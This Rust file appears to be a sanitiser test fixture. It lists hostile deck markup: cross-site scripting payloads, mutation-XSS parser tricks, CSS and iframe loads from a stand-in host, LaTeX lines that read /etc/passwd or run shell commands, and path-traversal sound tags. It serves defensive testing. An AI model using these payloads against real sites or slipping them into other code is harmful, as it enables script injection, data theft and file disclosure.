//! Markup of hostile decks: what the sanitiser is tested with, and what a browser is shown afterwards.

/// What a script of an attack would do.
pub const EVIL: &str = "alert('recto-evil')";
/// Where an attack would fetch something.
pub const HOST: &str = "https://recto-evil.invalid";

/// Markup that has got past one sanitiser or another.
pub fn attacks() -> Vec<String> {
    [
        "<script>EVIL</script><SCRIPT SRC=HOST/x.js></SCRIPT>",
        "<scr<script>ipt>EVIL</scr</script>ipt><<script>EVIL//<</script>",
        r#"<img src=x onerror="EVIL"><img src=x oNeRrOr=EVIL><img/src="x"/onerror=EVIL>"#,
        r#"<details open ontoggle="EVIL"><summary>x</summary></details><input autofocus onfocus="EVIL"><body onload="EVIL"><video><source onerror="EVIL"></video>"#,
        "<a href=\"javascript:EVIL\">1</a><a href=\" &#1; jAvA&Tab;script&colon;EVIL\">2</a><a href=\"java\nscript:EVIL\">3</a><a href=\"vbscript:EVIL\">4</a>",
        r#"<a href="view-source:javascript:EVIL">5</a><a href="data:text/html,<script>EVIL</script>">x</a><a href="/deck">in</a><a href="//HOST">o</a>"#,
        r#"<svg onload="EVIL"><script>EVIL</script><a xlink:href="javascript:EVIL"><text y="9">x</text></a><use href="data:image/svg+xml,<svg onload=EVIL/>#x"/></svg>"#,
        r#"<math href="javascript:EVIL"><mi>x</mi></math><math><maction actiontype="statusline#HOST" xlink:href="javascript:EVIL">x</maction></math>"#,
        r#"<style>@import url(HOST/x.css); body { display: none }</style><link rel="stylesheet" href="HOST/x.css">"#,
        r#"<p style="background: url(HOST/x.png)">x</p><p style="position: fixed; inset: 0; width: expression(EVIL); b\61 ckground: u\72l(HOST)">x</p>"#,
        r#"<iframe src="HOST"></iframe><iframe srcdoc="<script>EVIL</script>"></iframe><object data="HOST/x.swf"></object><embed src="HOST/x.swf">"#,
        r#"<meta http-equiv="refresh" content="0; url=HOST"><base href="HOST/" target="_top">"#,
        r#"<form action="HOST"><input name="password"><button formaction="javascript:EVIL">Go</button></form><isindex action="HOST">"#,
        r#"<img src="HOST/1.png"><img src="//recto-evil.invalid/2.png"><img srcset="HOST/3.png 1x" src="\\recto-evil.invalid/4.png"><audio autoplay src="HOST/7.mp3"></audio>"#,
        r#"<a id="document"></a><img name="getElementById"><p id="main" class="modal hidden card" data-action="delete" role="alert">x</p>"#,
        "</p></div></section></form></main></body></html><h1>x</h1><table><tr><td><!-- <b>",
        r#"<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=EVIL&gt;">"#,
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=EVIL>",
        r#"<svg></p><style><a id="</style><img src=1 onerror=EVIL>">"#,
        r#"<svg><desc><![CDATA[</desc><img src=x onerror=EVIL>]]></svg><svg><style><!--</style><a title="--><img src=x onerror=EVIL>">"#,
        r#"<svg><foreignObject><math><annotation-xml encoding="text/html"><style><img src=x onerror=EVIL></style>"#,
        r#"<noscript><p title="</noscript><img src=x onerror=EVIL>"></noscript>"#,
        r#"<textarea><xmp title="</textarea><img src=x onerror=EVIL>"></xmp><title><a title="</title><img src=x onerror=EVIL>"><noembed><b id="</noembed><img src=x onerror=EVIL>"><plaintext>"#,
        r#"<template><s><template><s><img src=x onerror=EVIL></s></template></s></template><select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=EVIL>">"#,
        "<!--><img src=x onerror=EVIL>--><!--->x<img src=x onerror=EVIL>--><!-- x --!><img src=x onerror=EVIL><?xml ><img src=x onerror=EVIL>?><![CDATA[<img src=x onerror=EVIL>]]>",
        r#"<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=EVIL>"></a></style></svg>"#,
        "</x a='\"'><img src=x onerror=EVIL></x b='\"'><b title='<script>EVIL</script>'>x",
        "\\(\\href{javascript:EVIL}{x}\\) \\(\\url{java&Tab;script:EVIL}\\) \\(\\text{<details open ontoggle=EVIL>}\\) \\(\\htmlData{x=1}{y} \\class{modal}{x}\\)",
        "\\(\\text{&lt;img src=x onerror=EVIL&gt;}\\) [latex]\\input{/etc/passwd}[/latex] [$]\\write18{touch x}[/$] \\(\\def\\a{\\a\\a}\\a\\)",
        "<b lang=\"\\(x\\)\" title='[$]\"><img src=x onerror=EVIL>[/$]'>\\(<img src=x onerror=EVIL>\\)",
        "<b dir=\"&#xFDD0;0&#xFDD1;\">&#xFDD0;0&#xFDD1;</b>\\(x\\)<a href=\"https://x/&#xFDD0;0&#xFDD1;\">y</a>\\(\\text{\"}\\)",
        "[sound:\"><img src=x onerror=EVIL>.mp3] [sound:HOST/x.mp3] [sound:../../x.mp3]",
    ]
    .iter()
    .map(|attack| attack.replace("EVIL", EVIL).replace("HOST", HOST))
    .collect()
}
